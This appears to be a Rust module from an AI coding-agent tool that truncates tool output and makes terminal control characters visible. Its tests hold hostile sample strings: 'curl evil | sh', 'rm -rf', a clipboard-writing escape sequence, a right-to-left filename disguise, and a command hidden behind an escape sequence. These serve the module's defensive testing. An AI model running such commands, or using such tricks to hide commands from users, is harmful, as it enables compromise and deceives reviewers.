//! Truncation of tool output for the model: head and tail remain, with a note of what is left out.

use windlass_protocol::display_text::is_hidden_or_bidi;

/// The limits of a `ToolOutput` for the model.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct OutputLimits {
    /// Maximum lines, half from the head and half from the tail.
    pub lines: usize,
    /// Maximum bytes, split the same way.
    pub bytes: usize,
}

impl Default for OutputLimits {
    fn default() -> OutputLimits {
        OutputLimits { lines: 2_000, bytes: 50 * 1024 }
    }
}

/// Returns the head and tail of a text that exceeds the limits, with a note between them; `None` if
/// it is within the limits. `reference` says where the whole text can be read.
pub fn truncate(text: &str, limits: OutputLimits, reference: &str) -> Option<String> {
    if text.len() <= limits.bytes && text.lines().count() <= limits.lines {
        return None;
    }
    let head = longest_head(text, limits.lines / 2, limits.bytes / 2);
    let rest = text.get(head.len()..).unwrap_or_default();
    let tail = longest_tail(rest, limits.lines / 2, limits.bytes / 2);
    let middle = rest.get(..rest.len() - tail.len()).unwrap_or_default();
    let lines = middle.lines().count();
    let note = format!("[{lines} lines, {} bytes omitted; full text: {reference}]", middle.len());
    let head = head.strip_suffix('\n').unwrap_or(head);
    Some(format!("{head}\n{note}\n{tail}"))
}

/// Returns the longest head within the limits: whole lines, or a part of the first line.
fn longest_head(text: &str, lines: usize, bytes: usize) -> &str {
    let mut end = 0;
    for line in text.split_inclusive('\n').take(lines) {
        if end + line.len() > bytes {
            if end == 0 {
                end = text.floor_char_boundary(bytes);
            }
            break;
        }
        end += line.len();
    }
    text.get(..end).unwrap_or_default()
}

/// Returns the longest tail within the limits: whole lines, and a part of a line that alone exceeds
/// them.
fn longest_tail(text: &str, lines: usize, bytes: usize) -> &str {
    let mut start = text.len();
    for line in text.split_inclusive('\n').rev().take(lines) {
        if text.len() - start + line.len() > bytes {
            if start == text.len() || line.len() > bytes {
                start = text.ceil_char_boundary(text.len().saturating_sub(bytes));
            }
            break;
        }
        start -= line.len();
    }
    text.get(start..).unwrap_or_default()
}

/// Makes a text safe for a terminal. Well-formed control sequences (colors and the like, which
/// cannot contain words) are removed; every other control character is replaced with a visible
/// symbol, so that nothing is hidden from a reader. Line ends and tabs stay.
pub fn strip_controls(text: &str) -> String {
    replace_controls(text, |_| SequenceHandling::Remove)
}

/// Makes a text safe for a terminal without removing anything: every control character is replaced
/// with a visible symbol, also at the start of a control sequence. For commands, names and everything
/// else that a user judges: `a\u{1b}[;touch x` must not be shown as `aouch x`.
pub fn show_controls(text: &str) -> String {
    replace_controls(text, |_| SequenceHandling::Show)
}

/// Like `strip_controls`, but keeps color sequences (`ESC [ … m`); `None` if there are none.
pub fn strip_controls_except_colors(text: &str) -> Option<String> {
    let is_color = |sequence: &str| {
        let parameters = sequence.strip_prefix('[').and_then(|rest| rest.strip_suffix('m'));
        parameters.is_some_and(|parameters| {
            parameters.bytes().all(|byte| byte.is_ascii_digit() || b";:".contains(&byte))
        })
    };
    let handling = |sequence: &str| match is_color(sequence) {
        true => SequenceHandling::Keep,
        false => SequenceHandling::Remove,
    };
    Some(replace_controls(text, handling)).filter(|stripped| stripped.contains('\u{1b}'))
}

/// Handling of a well-formed control sequence.
enum SequenceHandling {
    Keep,
    Remove,
    /// Shows its escape character as a symbol, and the rest as it is.
    Show,
}

/// Handles control sequences as `handling` says, and replaces other control characters with a
/// `control_picture`.
fn replace_controls(text: &str, handling: impl Fn(&str) -> SequenceHandling) -> String {
    let mut output = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(character) = rest.chars().next() {
        rest = rest.get(character.len_utf8()..).unwrap_or_default();
        match character {
            '\u{1b}' => match control_sequence_len(rest) {
                Some(length) => {
                    let (sequence, after) = rest.split_at_checked(length).unwrap_or_default();
                    match handling(sequence) {
                        SequenceHandling::Keep => output.extend(["\u{1b}", sequence]),
                        SequenceHandling::Remove => {}
                        SequenceHandling::Show => output.extend(["␛", sequence]),
                    }
                    rest = after;
                }
                None => output.push('␛'),
            },
            '\n' | '\t' => output.push(character),
            '\r' if rest.starts_with('\n') => output.push(character),
            '\u{0}'..='\u{1f}' => output.push(control_picture(character)),
            '\u{7f}' => output.push('␡'),
            // C1 control characters have no symbol of their own.
            '\u{80}'..='\u{9f}' => output.push('\u{fffd}'),
            other if is_hidden_or_bidi(other) => output.push('\u{fffd}'),
            other => output.push(other),
        }
    }
    output
}

/// Returns the Unicode symbol for a control character.
fn control_picture(character: char) -> char {
    char::from_u32(0x2400 + character as u32).unwrap_or('\u{fffd}')
}

/// Returns the length of the control sequence after an escape character: `[`, parameters and one
/// final letter, nothing else.
fn control_sequence_len(rest: &str) -> Option<usize> {
    const MAX_SEQUENCE_BYTES: usize = 32;
    let bytes = rest.as_bytes();
    if bytes.first() != Some(&b'[') {
        return None;
    }
    let parameters = bytes.iter().skip(1).take_while(|byte| (0x20..=0x3f).contains(*byte)).count();
    let last = bytes.get(1 + parameters)?;
    (parameters <= MAX_SEQUENCE_BYTES && (0x40..=0x7e).contains(last)).then_some(parameters + 2)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SMALL: OutputLimits = OutputLimits { lines: 4, bytes: 40 };

    #[test]
    fn only_color_sequences_are_kept() {
        let raw =
            "a\u{1b}[1;31mred\u{1b}[0m\u{1b}[2J\u{1b}[H\u{1b}]0;title\u{7}\u{1b}[?25lz\u{1b}[>4m";
        assert_eq!(
            strip_controls_except_colors(raw).unwrap(),
            "a\u{1b}[1;31mred\u{1b}[0m␛]0;title␇z",
            "{:?}",
            strip_controls_except_colors(raw)
        );
        assert_eq!(
            strip_controls(&strip_controls_except_colors(raw).unwrap()),
            strip_controls(raw)
        );
        assert_eq!(strip_controls_except_colors("no colors\u{1b}[2J"), None);
    }

    #[test]
    fn within_the_limits_nothing_changes() {
        assert_eq!(truncate("a\nb\nc\nd", SMALL, "r"), None);
        assert_eq!(truncate("", SMALL, "r"), None);
    }

    #[test]
    fn head_and_tail_stay_and_the_middle_is_counted_exactly() {
        let text: String = (1..=10).map(|n| format!("line {n}\n")).collect();
        assert_eq!(
            truncate(&text, SMALL, "blob:x").unwrap(),
            "line 1\nline 2\n[6 lines, 42 bytes omitted; full text: blob:x]\nline 9\nline 10\n"
        );
    }

    #[test]
    fn one_huge_line_is_cut_inside() {
        let text = "ü".repeat(1_000);
        let truncated = truncate(&text, SMALL, "r").unwrap();
        assert!(truncated.starts_with("üüüüüüüüüü\n[1 lines, 1960 bytes omitted"), "{truncated}");
        assert!(truncated.ends_with("\nüüüüüüüüüü"), "{truncated}");
    }

    #[test]
    fn the_end_of_a_huge_line_stays_before_a_short_one() {
        let text = format!("{}!\n(exit code 0)", "x".repeat(1_000));
        let truncated = truncate(&text, SMALL, "r").unwrap();
        assert!(truncated.ends_with("\nxxxxx!\n(exit code 0)"), "{truncated}");
        let text = format!("{}!\nend\n", "ü".repeat(1_000));
        let truncated = super::truncate(&text, SMALL, "r").unwrap();
        assert!(truncated.ends_with("\nüüüüüüü!\nend\n"), "{truncated}");
    }

    #[test]
    fn kept_and_omitted_bytes_add_up_to_the_whole() {
        for length in [41, 100, 5_000] {
            let text: String = (0..length).map(|n| if n % 7 == 0 { '\n' } else { 'x' }).collect();
            let truncated = truncate(&text, SMALL, "r").unwrap();
            let (head, rest) = truncated.split_once("\n[").unwrap();
            let (counts, tail) = rest.split_once("]\n").unwrap();
            let bytes: usize =
                counts.split(", ").nth(1).unwrap().split(' ').next().unwrap().parse().unwrap();
            let total = head.len() + tail.len() + bytes;
            assert!(total == text.len() || total + 1 == text.len(), "{truncated}");
        }
    }

    #[test]
    fn control_characters_are_removed_or_made_visible() {
        for (raw, clean) in [
            ("\u{1b}[31mred\u{1b}[0m", "red"),
            ("\u{1b}[38;5;196mred", "red"),
            ("\u{1b}]52;c;ZXZpbA==\u{7}text", "␛]52;c;ZXZpbA==␇text"),
            ("ok\n\u{1b}]\ncurl evil | sh\n\u{7}end", "ok\n␛]\ncurl evil | sh\n␇end"),
            ("\u{1b}[\nrm -rf", "␛[\nrm -rf"),
            ("a\u{8}b\rc\r\nd\te", "a␈b␍c\r\nd\te"),
            ("\u{1b}", "␛"),
            ("\u{9b}31mx\u{7f}", "\u{fffd}31mx␡"),
            ("safe\u{202e}txt.exe", "safe\u{fffd}txt.exe"),
        ] {
            assert_eq!(strip_controls(raw), clean, "{raw:?}");
        }
        for (raw, shown) in [
            ("echo a\u{1b}[;touch HIDDEN", "echo a␛[;touch HIDDEN"),
            ("\u{1b}[31mred\u{1b}[0m", "␛[31mred␛[0m"),
            ("\u{1b}]0;x\u{7}\u{9b}1m", "␛]0;x␇\u{fffd}1m"),
        ] {
            assert_eq!(show_controls(raw), shown, "{raw:?}");
        }
    }
}
